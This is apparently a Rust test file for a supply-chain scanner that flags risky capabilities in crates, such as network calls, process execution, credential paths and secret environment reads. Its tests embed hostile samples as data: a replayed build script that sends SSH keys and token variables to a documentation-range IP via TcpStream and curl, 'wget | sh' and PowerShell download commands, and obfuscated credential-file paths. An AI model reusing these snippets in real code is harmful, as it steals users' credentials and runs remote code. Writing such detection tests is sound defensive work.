//! Scenario tests of `read_code`: each capability in each spelling, the replayed attacks, benign
//! build scripts, module trees, the fallback scanner, notable files and speed.

use super::*;

pub(super) fn file(path: &str, src: &[u8]) -> CrateFile {
    CrateFile {
        path: path.into(),
        size: src.len() as u64,
        bytes: src.to_vec(),
        truncated: false,
    }
}

pub(super) fn lib_targets() -> Targets {
    Targets {
        build_script: None,
        lib: Some("src/lib.rs".into()),
        proc_macro: false,
    }
}

pub(super) fn lib(src: &str) -> CodeFacts {
    read_code(&[file("src/lib.rs", src.as_bytes())], &lib_targets())
}

pub(super) fn build(src: &str) -> CodeFacts {
    let targets = Targets {
        build_script: Some("build.rs".into()),
        lib: None,
        proc_macro: false,
    };
    read_code(&[file("build.rs", src.as_bytes())], &targets)
}

pub(super) fn caps(f: &CodeFacts, role: Role) -> Vec<Capability> {
    f.roles
        .get(&role)
        .map(|m| m.keys().copied().collect())
        .unwrap_or_default()
}

pub(super) fn shows(f: &CodeFacts, role: Role, cap: Capability) -> Vec<(u32, String)> {
    f.roles
        .get(&role)
        .and_then(|m| m.get(&cap))
        .map(|ev| ev.iter().map(|e| (e.line, e.shows.clone())).collect())
        .unwrap_or_default()
}

pub(super) fn has(src: &str, cap: Capability) -> bool {
    caps(&lib(src), Role::Library).contains(&cap)
}

use Capability::*;

#[test]
fn renamed_import_shows_resolved_call_with_program() {
    let f = lib("use std::process::Command as C;\nfn f() {\n    C::new(\"sh\");\n}\n");
    assert_eq!(
        shows(&f, Role::Library, Execute),
        [(3, "std::process::Command::new(\"sh\")".into())]
    );
    assert_eq!(caps(&f, Role::Library), [Execute]);
}

#[test]
fn fully_qualified_paths_need_no_use() {
    let f = lib(
        "fn f() { std::process::Command::new(\"ls\"); }\nfn g() { ::std::net::TcpStream::connect(\"h:1\"); }",
    );
    assert_eq!(
        shows(&f, Role::Library, Network),
        [(2, "std::net::TcpStream::connect".into())]
    );
    assert_eq!(
        shows(&f, Role::Library, Execute),
        [(1, "std::process::Command::new(\"ls\")".into())]
    );
}

#[test]
fn globs_groups_reexports_and_extern_crate_resolve() {
    assert!(has(
        "use std::net::*;\nfn f() { TcpStream::connect(\"x\"); }",
        Network
    ));
    assert!(!has(
        "use std::io::*;\nfn f() { TcpStream::connect(\"x\"); }",
        Network
    ));
    let grouped = lib(
        "use std::{net::{TcpStream as T}, env};\nfn f() {\n T::connect(\"x\");\n env::var(\"GITHUB_TOKEN\");\n}",
    );
    assert_eq!(
        shows(&grouped, Role::Library, Network),
        [(3, "std::net::TcpStream::connect".into())]
    );
    assert_eq!(
        shows(&grouped, Role::Library, SecretEnv),
        [(4, "std::env::var(\"GITHUB_TOKEN\")".into())]
    );
    let reexport = lib(
        "mod util { pub use std::net::TcpStream as Sock; }\nfn f() {\n    util::Sock::connect(\"x\");\n}",
    );
    assert_eq!(
        shows(&reexport, Role::Library, Network),
        [(3, "std::net::TcpStream::connect".into())]
    );
    assert!(has(
        "extern crate reqwest as r;\nfn f() { r::get(\"u\"); }",
        Network
    ));
    assert!(!has(
        "fn f() { reqwest_like::get(\"u\"); other::TcpStream::connect(); }",
        Network
    ));
}

#[test]
fn reexport_across_module_files() {
    let files = [
        file(
            "src/lib.rs",
            b"mod util;\nuse crate::util::Runner;\nfn f() { Runner::new(\"x\"); }\n",
        ),
        file("src/util.rs", b"pub use std::process::Command as Runner;\n"),
    ];
    let f = read_code(&files, &lib_targets());
    assert_eq!(
        shows(&f, Role::Library, Execute),
        [(3, "std::process::Command::new(\"x\")".into())]
    );
}

#[test]
fn an_import_alone_counts_when_nothing_else_shows() {
    let f = lib("use std::os::unix::process::CommandExt;\nfn f(c: &mut Cmd) { c.exec(); }");
    assert_eq!(
        shows(&f, Role::Library, Execute),
        [(1, "std::os::unix::process::CommandExt".into())]
    );
}

#[test]
fn credential_literals_in_every_spelling() {
    for src in [
        r###"const P: &str = r#"/home/x/.ssh/id_rsa"#;"###,
        r#"const P: &[u8] = b".aws/credentials";"#,
        r#"fn f() { home.join("\x2essh"); }"#,
        r#"const P: &str = concat!("~/.s", "sh/", "known");"#,
        r#"fn f() { let p = format!("{}/.{}/config", home, "kube"); }"#,
        r#"fn f() { let p = [".git-cre", "dentials"].join(""); }"#,
        r#"fn f() { let p = home.join("AppData/Local/Google/Chrome/User Data/Default/Login Data"); }"#,
        r#"fn f() { let p = c"/root/.solana/id.json"; }"#,
    ] {
        assert!(has(src, Credentials), "{src}");
    }
    for src in [
        "/// Reads keys from ~/.ssh like ssh does.\nfn f() {}",
        r#"fn f() { println!("use ssh to connect"); let k = "keystore"; }"#,
        r#"fn f() { let url = "https://example.com/.sshd"; }"#,
    ] {
        assert!(!has(src, Credentials), "{src}");
    }
}

#[test]
fn secret_env_reads_and_iteration() {
    // Iterating every variable is common in build scripts (cfg and feature variables): on its
    // own it is reads-all-env; with a secret's name beside it, it is a secret read.
    let iterating = "fn f() { std::env::vars().filter(|(k, _)| k.contains(\"X\")); }";
    assert!(has(iterating, ReadsAllEnv) && !has(iterating, SecretEnv));
    let iterating_os = "use std::env;\nfn f() { for (k, v) in env::vars_os() {} }";
    assert!(has(iterating_os, ReadsAllEnv) && !has(iterating_os, SecretEnv));
    assert!(has(
        "fn f() { std::env::vars().filter(|(k, _)| k.contains(\"TOKEN\")); }",
        SecretEnv
    ));
    assert!(!has(
        "fn f() { std::env::vars(); println!(\"set MY_TOKEN to log in\"); }",
        SecretEnv
    ));
    assert!(has("fn f() { option_env!(\"NPM_TOKEN\"); }", SecretEnv));
    assert!(has(
        "fn f() { std::env::var_os(\"AWS_ACCESS_KEY_ID\"); }",
        SecretEnv
    ));
    for normal in [
        "OUT_DIR",
        "CARGO_PKG_VERSION",
        "TARGET",
        "CARGO_CFG_TARGET_OS",
        "PROFILE",
        "HOST",
        "DEP_Z_INCLUDE",
        "CARGO_FEATURE_API_KEY",
        "CARGO_MANIFEST_DIR",
    ] {
        let src =
            format!("use std::env;\nfn f() {{ env::var(\"{normal}\"); env!(\"{normal}\"); }}");
        assert!(!has(&src, SecretEnv), "{normal}");
    }
}

#[test]
fn onering_replay() {
    let src = r#"use std::env;
use std::io::Write;
use std::net::TcpStream;
use std::process::Command;

fn main() {
    let home = dirs::home_dir().unwrap();
    let keys = std::fs::read_dir(home.join(".ssh")).unwrap();
    let secrets: Vec<_> = env::vars()
        .filter(|(k, _)| k.contains("TOKEN") || k.contains("SECRET") || k.starts_with("AWS_"))
        .collect();
    let mut s = TcpStream::connect("198.51.100.7:443").unwrap();
    s.write_all(format!("{:?}", secrets).as_bytes()).unwrap();
    Command::new("curl").arg("-d").arg("@-").arg("https://198.51.100.7/x").status().unwrap();
}
"#;
    let f = build(src);
    assert_eq!(
        caps(&f, Role::Build),
        [
            Network,
            Execute,
            Credentials,
            SecretEnv,
            ReadsAllEnv,
            DownloadExecute,
            Exfiltration
        ]
    );
    let curl = "std::process::Command::new(\"curl\")".to_string();
    assert_eq!(
        shows(&f, Role::Build, Network),
        [
            (12, "std::net::TcpStream::connect".into()),
            (14, curl.clone())
        ]
    );
    assert_eq!(shows(&f, Role::Build, Execute), [(14, curl.clone())]);
    assert_eq!(
        shows(&f, Role::Build, Credentials),
        [(8, "\".ssh\"".into())]
    );
    assert_eq!(
        shows(&f, Role::Build, SecretEnv),
        [
            (9, "std::env::vars".into()),
            (10, "\"SECRET\"".into()),
            (10, "\"TOKEN\"".into())
        ]
    );
    assert_eq!(
        shows(&f, Role::Build, Exfiltration),
        [
            (8, "\".ssh\"".into()),
            (9, "std::env::vars".into()),
            (12, "std::net::TcpStream::connect".into())
        ]
    );
    assert_eq!(
        shows(&f, Role::Build, DownloadExecute),
        [(12, "std::net::TcpStream::connect".into()), (14, curl)]
    );
    assert!(!f.roles.contains_key(&Role::Library));
}

#[test]
fn download_and_run_build_script() {
    let src = "fn main() {\n    let body = ureq::get(\"https://x.invalid/tool\").call();\n    let path = out.join(\"tool\");\n    std::process::Command::new(&path).status();\n}\n";
    let f = build(src);
    assert_eq!(
        shows(&f, Role::Build, DownloadExecute),
        [
            (2, "ureq::get".into()),
            (4, "std::process::Command::new".into())
        ]
    );
    let shell = build(
        "fn main() { Command::new(\"sh\").args([\"-c\", \"wget -qO- http://x | sh\"]); }\nuse std::process::Command;",
    );
    assert!(caps(&shell, Role::Build).contains(&DownloadExecute));
    let ps = build(
        "use std::process::Command;\nfn main() { Command::new(\"powershell.exe\").arg(\"iwr http://x -OutFile a.exe\"); }",
    );
    assert!(caps(&ps, Role::Build).contains(&Network));
    let benign_sh =
        build("use std::process::Command;\nfn main() { Command::new(\"sh\").arg(\"configure\"); }");
    assert_eq!(caps(&benign_sh, Role::Build), [Execute]);
}

#[test]
fn benign_build_script_has_no_capability() {
    let src = r#"use std::env;
use std::fs;
use std::path::Path;

fn main() {
    println!("cargo:rerun-if-changed=src/x.c");
    let out_dir = env::var("OUT_DIR").unwrap();
    let os = env::var("CARGO_CFG_TARGET_OS").unwrap();
    cc::Build::new().file("src/x.c").compile("x");
    pkg_config::probe_library("z").ok();
    fs::write(Path::new(&out_dir).join("x.rs"), "pub const X: u8 = 1;").unwrap();
    let dest = Path::new(&env::var_os("OUT_DIR").unwrap()).join("gen");
    fs::create_dir_all(&dest).unwrap();
}
"#;
    assert_eq!(build(src).roles, BTreeMap::new());
}

pub(super) fn noise(n: usize, seed: u64) -> Vec<u8> {
    let mut x = seed | 1;
    (0..n)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x >> 24) as u8
        })
        .collect()
}

pub(super) fn base64(bytes: &[u8]) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    bytes
        .chunks(3)
        .flat_map(|c| {
            let n = c.iter().fold(0u32, |acc, &b| acc << 8 | u32::from(b)) << (8 * (3 - c.len()));
            (0..4)
                .rev()
                .map(move |k| A[(n >> (6 * k) & 63) as usize] as char)
        })
        .collect()
}

#[test]
fn module_tree_tests_and_examples() {
    let files = [
        file("src/lib.rs", b"mod net;\n#[path = \"sys/unix.rs\"]\nmod sys;\nmod gone;\n#[cfg(test)]\nmod tests { fn t() { std::process::Command::new(\"x\"); } }\n"),
        file("src/net/mod.rs", b"pub fn f() {\n    let _ = std::net::TcpStream::connect(\"x\");\n}\n"),
        file("src/sys/unix.rs", b"pub fn g() { unsafe { libc::dlopen(p, 0) }; }\n"),
        file("tests/it.rs", b"fn t() { std::process::Command::new(\"cargo\"); }"),
        file("examples/x.rs", b"fn main() { std::fs::write(\"/etc/x\", \"\"); std::env::vars(); }"),
        file("benches/b.rs", b"fn b() { reqwest::get(\"x\"); }"),
    ];
    let f = read_code(&files, &lib_targets());
    assert_eq!(caps(&f, Role::Library), [Network, DynamicLoad]);
    let net = &f.roles[&Role::Library][&Network];
    assert_eq!((net[0].file.as_str(), net[0].line), ("src/net/mod.rs", 2));
    assert_eq!(
        f.unreadable,
        ["src/gone.rs: module `gone` not found (nor src/gone/mod.rs)"]
    );
    assert!(f.files.is_empty(), "{:?}", f.files);

    let pm = Targets {
        build_script: None,
        lib: Some("src/lib.rs".into()),
        proc_macro: true,
    };
    let f = read_code(&files, &pm);
    assert_eq!(caps(&f, Role::ProcMacro), [Network, DynamicLoad]);
    assert!(!f.roles.contains_key(&Role::Library));
}

#[test]
fn unbalanced_file_still_scanned() {
    let src = "use std::process::Command;\nfn main() {\n    let x = [1, 2;\n    Command::new(\"curl\").arg(\"http://x\");\n    std::env::var(\"AWS_SECRET_ACCESS_KEY\");\n";
    let f = build(src);
    assert_eq!(f.fallback, ["build.rs"]);
    assert!(f.unreadable.is_empty());
    assert_eq!(
        shows(&f, Role::Build, Execute),
        [(4, "std::process::Command::new(\"curl\")".into())]
    );
    assert!(caps(&f, Role::Build).contains(&Exfiltration));
}

#[test]
fn notable_files_and_included_blobs() {
    let blob = noise(2 * 1024 * 1024, 11);
    let mut elf = b"\x7fELF\x02\x01\x01\0".to_vec();
    elf.extend(noise(64, 2));
    let files = [
        file("src/lib.rs", b"static B: &[u8] = include_bytes!(\"../data/blob.bin\");\nstatic R: &str = include_str!(concat!(env!(\"CARGO_MANIFEST_DIR\"), \"/README.md\"));\nstatic L: &[u8] = include_bytes!(\"logo.png\");"),
        file("data/blob.bin", &blob),
        file("README.md", b"# readme\n"),
        file("src/logo.png", b"\x89PNG\r\n\x1a\n\0\0"),
        file("docs/other.png", b"\x89PNG\r\n\x1a\n\0\0"),
        file("lib/libx.so", &elf),
        file("vendor/x.tar.gz", &[0x1f, 0x8b, 8, 0, 0]),
    ];
    let f = read_code(&files, &lib_targets());
    let kinds: Vec<(&str, &FileKind, bool)> = f
        .files
        .iter()
        .map(|(p, ff)| (p.as_str(), &ff.kind, ff.included))
        .collect();
    assert_eq!(
        kinds,
        [
            ("data/blob.bin", &FileKind::Opaque, true),
            ("lib/libx.so", &FileKind::Native(NativeFormat::Elf), false),
            ("src/logo.png", &FileKind::Media, true),
            (
                "vendor/x.tar.gz",
                &FileKind::Compressed("gzip".into()),
                false
            ),
        ]
    );
    assert_eq!(f.files["data/blob.bin"].size, 2 * 1024 * 1024);
}

#[test]
fn evidence_is_capped_and_earliest_first() {
    let body: String = (0..10)
        .map(|_| "    std::process::Command::new(\"x\");\n")
        .collect();
    let f = lib(&format!("fn f() {{\n{body}}}\n"));
    let lines: Vec<u32> = shows(&f, Role::Library, Execute)
        .iter()
        .map(|(l, _)| *l)
        .collect();
    assert_eq!(lines, [2, 3, 4]);
}

#[test]
fn facts_serialize_kebab_case_and_round_trip() {
    let f = build(
        "fn main() { std::process::Command::new(\"x\"); let _ = std::fs::write(\"/tmp/x\", \"\"); }",
    );
    let json = serde_json::to_string(&f).unwrap_or_default();
    assert!(json.contains("\"writes-outside-out-dir\""), "{json}");
    assert!(json.contains("\"build\""), "{json}");
    let back: CodeFacts = serde_json::from_str(&json).unwrap_or_default();
    assert_eq!(back, f);
    let kind = serde_json::to_string(&FileKind::Native(NativeFormat::MachO)).unwrap_or_default();
    assert_eq!(kind, "{\"native\":\"mach-o\"}");
}

/// CPU time of this thread in seconds where Linux reports it, else wall-clock time since `base`
/// (wall-clock time is unreliable on a shared machine).
fn cpu_seconds(base: std::time::Instant) -> f64 {
    std::fs::read_to_string("/proc/thread-self/schedstat")
        .ok()
        .and_then(|s| {
            s.split_whitespace()
                .next()
                .and_then(|n| n.parse::<f64>().ok())
        })
        .map_or_else(|| base.elapsed().as_secs_f64(), |ns| ns / 1e9)
}

/// Speed: read_code over ~5 MB of synthetic Rust (512 KB in debug builds), with the lexers alone
/// for comparison. Run `cargo test --release speed -- --nocapture --test-threads 1` for the
/// numbers. The floor asserted in release (5 MB/s of thread CPU time) only catches a quadratic
/// regression: see NOTES.md for the measured throughput.
#[test]
fn speed_of_read_code() {
    let unit = r#"
use std::collections::HashMap;
/// A documented item with a path: ~/.config/app.
pub fn handle_{N}(map: &mut HashMap<String, Vec<u8>>, key: &str) -> Result<usize, String> {
    let value = map.entry(key.to_string()).or_insert_with(Vec::new);
    value.extend_from_slice(b"some bytes \x00\x01");
    if value.len() > 1024 { return Err(format!("too long: {} for {:?}", value.len(), key)); }
    let total: usize = value.iter().map(|b| usize::from(*b)).sum::<usize>() + 0x10 + 1_000;
    match total { 0 => Ok(0), n if n % 2 == 0 => Ok(n / 2), n => Ok(n * 3 + 1) }
}
"#;
    let target = if cfg!(debug_assertions) {
        512 * 1024
    } else {
        5 * 1024 * 1024
    };
    let mut src = String::with_capacity(target + unit.len());
    let mut n = 0;
    while src.len() < target {
        src.push_str(&unit.replace("{N}", &n.to_string()));
        n += 1;
    }
    let mb = src.len() as f64 / 1e6;
    let base = std::time::Instant::now();
    let t = cpu_seconds(base);
    let lexed = super::lexer::lex(&src);
    let lex_s = cpu_seconds(base) - t;
    let t = cpu_seconds(base);
    let fallback = super::lexer::lex_fallback(&src);
    let fallback_s = cpu_seconds(base) - t;
    assert_eq!(
        lexed.tokens.len(),
        fallback.len(),
        "both lexers see the same tokens"
    );
    let files = [file("src/lib.rs", src.as_bytes())];
    let t = cpu_seconds(base);
    let f = read_code(&files, &lib_targets());
    let read_s = cpu_seconds(base) - t;
    println!(
        "{mb:.2} MB: read_code {:.1} MB/s; proc-macro2 lex {:.1} MB/s; fallback lex {:.1} MB/s",
        mb / read_s,
        mb / lex_s,
        mb / fallback_s
    );
    assert!(f.roles.is_empty(), "{:?}", f.roles);
    if !cfg!(debug_assertions) {
        assert!(mb / read_s > 5.0, "{:.1} MB/s", mb / read_s);
    }
}
